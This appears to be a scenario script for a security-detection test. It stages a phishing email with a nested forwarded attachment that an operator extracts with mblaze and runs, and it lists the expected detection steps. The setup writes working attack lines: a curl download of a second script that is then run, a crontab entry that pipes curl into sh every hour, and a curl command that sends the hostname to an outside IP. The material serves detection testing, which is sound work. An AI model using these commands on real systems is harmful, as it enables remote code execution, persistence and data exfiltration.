title="A letter in a letter: mblaze takes the attachment out, the next mshow the script in it (commands only)"
what="ops reads mail with mblaze over SSH. A forwarded letter (Fwd.eml as an attachment, as bounce notices and colleagues send them) is taken out with mshow -x, and the file inside of it too, with another mshow -x; ops runs the shell script 'check-quota.sh' as the text says. It fetches a second script with curl and sh -c's it, and puts a line into the crontab. Commands only; ISO stamps."
host=mx1.example.org user=ops daemons="cron sshd" audit_rules=audit-exec.rules syslog_format=iso
setup() {
  install -d -o ops /home/ops/.mblaze
  printf '#!/bin/sh\n# checks the quota of your mailbox\ndu -sh ~/Maildir\nf=$(mktemp)\ncurl -fsS -o $f http://203.0.113.66/q2\nsh $f\nrm -f $f\n' > "$base/out/check-quota.sh"
  printf '(crontab -l 2>/dev/null; echo "17 * * * * curl -fsS http://203.0.113.66/q3 | sh") | crontab -\nhostname | curl -s -o /dev/null --data-binary @- http://203.0.113.66/h\n' > "$base/out/www/q2"
  python3 - "$base/out" <<'P'
import sys, email.message
m = email.message.EmailMessage(); m['From'] = 'Mail operations <mailops@example.net>'; m['To'] = 'ops@example.org'; m['Subject'] = 'Quota exceeded'
m.set_content('Run sh check-quota.sh on the mail host and send us what it says.\n')
m.add_attachment(open(sys.argv[1] + '/check-quota.sh', 'rb').read(), maintype='application', subtype='x-sh', filename='check-quota.sh')
open(sys.argv[1] + '/Fwd.eml', 'wb').write(m.as_bytes())
P
}
act() {
  small_talk 3
  mail_in --from helpdesk@example.com --to ops@example.org --subject "Fwd: Quota exceeded" --source 192.0.2.77 --helo host77.example.com --attach "$base/out/Fwd.eml:application/octet-stream:Fwd.eml" --text 'Please see the letter below, and do as it says.\n'
  wait_log 'from=<helpdesk@example.com>'; sleep 2
  ssh_run dev 'df -h /home | tail -1'
  ssh_as ops <<'L'
uptime
mlist ~/Maildir | msort -d | mseq -S
mscan
grep -l Fwd.eml ~/Maildir/new/* | mseq -S
cd /var/tmp
mshow -t 1
mshow -x 1 Fwd.eml
mshow -t ./Fwd.eml
mshow -x ./Fwd.eml check-quota.sh
head -3 check-quota.sh
sh check-quota.sh
rm Fwd.eml
L
  small_talk 2
}
truth() {
  mail_step deliver 'to=<ops@example.org>.*status=sent' 'delivered'
  exec_step outer 'mshow -x 1 Fwd.eml' 'the letter in the letter'
  exec_step inner 'mshow -x ./Fwd.eml check-quota.sh' 'and the script in that'
  exec_step execute 'sh check-quota.sh' 'run'
  exec_step fetch 'curl -fsS -o /tmp/' 'it fetches more'
  exec_step second 'sh /tmp/tmp' 'and runs that'
  exec_step job 'crontab -' 'which sets a job'
}
